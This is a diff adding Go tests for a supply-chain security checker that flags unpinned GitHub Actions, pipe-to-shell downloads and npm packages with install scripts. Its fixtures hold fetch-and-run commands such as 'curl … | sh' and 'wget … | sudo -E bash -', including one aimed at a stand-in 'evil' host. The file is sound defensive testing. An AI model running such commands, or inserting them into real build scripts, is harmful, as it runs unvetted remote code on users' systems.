@@ -0,0 +1,69 @@
+package checks
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestFindUnpinnedActions(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		".github/workflows/ci.yml": `jobs:
+  build:
+    steps:
+      - uses: actions/checkout@v4
+      - uses: docker/login-action@v3
+      - uses: "aws-actions/configure-aws-credentials@main"
+      - uses: pnpm/action-setup@fe02b34f77f8bc703788d5817da081398fad5dd2 # v4.0.0
+      - uses: ./.github/actions/local
+      - uses: docker://alpine:3.19
+`,
+	})
+	got := findUnpinnedActions(dir)
+	if len(got) != 2 {
+		t.Fatalf("findUnpinnedActions = %v, want 2 findings", got)
+	}
+	if !strings.Contains(got[0], "docker/login-action") || !strings.Contains(got[0], "ci.yml:5") {
+		t.Errorf("first finding = %q, want docker/login-action at ci.yml:5", got[0])
+	}
+	if !strings.Contains(got[1], "aws-actions/configure-aws-credentials") {
+		t.Errorf("second finding = %q, want the quoted @main reference", got[1])
+	}
+}
+
+func TestFindPipeToShell(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"scripts/setup.sh":          "#!/bin/sh\ncurl -fsSL https://get.example.com | sh\n# curl https://x | bash\n",
+		"Dockerfile":                "RUN wget -qO- https://deb.example.com/setup | sudo -E bash -\n",
+		"Makefile":                  "deps:\n\tcurl -o tool.tgz https://example.com/tool.tgz\n",
+		"node_modules/x/install.sh": "curl https://evil | sh\n",
+		"src/app.js":                "// curl https://x | sh is how we document it\n",
+	})
+	got := findPipeToShell(dir)
+	if len(got) != 2 {
+		t.Fatalf("findPipeToShell = %v, want setup.sh:2 and Dockerfile:1", got)
+	}
+}
+
+func TestFindNPMInstallScripts(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"package-lock.json": `{"lockfileVersion": 3, "packages": {
+			"": {"hasInstallScript": true},
+			"node_modules/esbuild": {"hasInstallScript": true},
+			"node_modules/a/node_modules/@scope/native": {"hasInstallScript": true},
+			"node_modules/left-pad": {}
+		}}`,
+		"pnpm-lock.yaml": `packages:
+  /sharp@0.33.0:
+    resolution: {integrity: sha512-x}
+    requiresBuild: true
+  /lodash@4.17.21:
+    resolution: {integrity: sha512-y}
+`,
+	})
+	got := findNPMInstallScripts(dir)
+	want := []string{"@scope/native", "esbuild", "sharp"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("findNPMInstallScripts = %v, want %v", got, want)
+	}
+}